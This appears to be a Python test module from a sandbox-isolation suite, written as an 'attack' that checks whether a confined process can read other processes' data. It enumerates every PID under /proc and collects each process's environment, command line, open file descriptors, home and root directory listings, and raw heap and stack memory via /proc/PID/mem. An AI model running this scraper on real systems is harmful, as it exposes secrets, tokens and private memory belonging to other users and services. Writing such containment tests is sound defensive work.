"""Reads /proc of every process it sees: memory, environment, command line, mounts, descriptors, root and folder."""

# not stopped by landlock: command lines are seen, and the seed in that of this test

import os
import re
import tempfile

NAMES = ("environ", "cmdline", "mountinfo", "maps", "status", "stack", "auxv", "limits", "cgroup", "net/unix")
MEMORY_BYTES = 1 << 22


def _memory(pid):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            if found := re.match(r"([0-9a-f]+)-([0-9a-f]+) rw.*(\[heap\]|\[stack\]|00:00 0 *$)", line):
                start, end = int(found[1], 16), int(found[2], 16)
                memory.seek(start)
                # Its own memory holds nothing that it was not given; others' is what counts.
                loot(attempt(memory.read, min(end - start, MEMORY_BYTES)) or b"")


def _read(path):
    with open(path, "rb") as file:
        return file.read(1 << 20)


def attack():
    # Once in each box is enough, and takes its time.
    try:
        os.mkdir(f"{tempfile.gettempdir()}/read")
    except FileExistsError:
        return
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for name in NAMES:
            loot(attempt(_read, f"/proc/{pid}/{name}") or b"")
        for descriptor in attempt(os.listdir, f"/proc/{pid}/fd") or ():
            path = f"/proc/{pid}/fd/{descriptor}"
            loot(attempt(os.readlink, path) or b"")
            opened = attempt(os.open, path, os.O_RDONLY | os.O_NONBLOCK)
            if opened is not None:
                loot(attempt(os.pread, opened, 1 << 20, 0) or b"")
                os.close(opened)
        for place in ("root/home", "root/root", "root/work", "root/tmp", "cwd", "cwd/.."):
            loot(repr(attempt(os.listdir, f"/proc/{pid}/{place}")))
        attempt(_memory, pid)
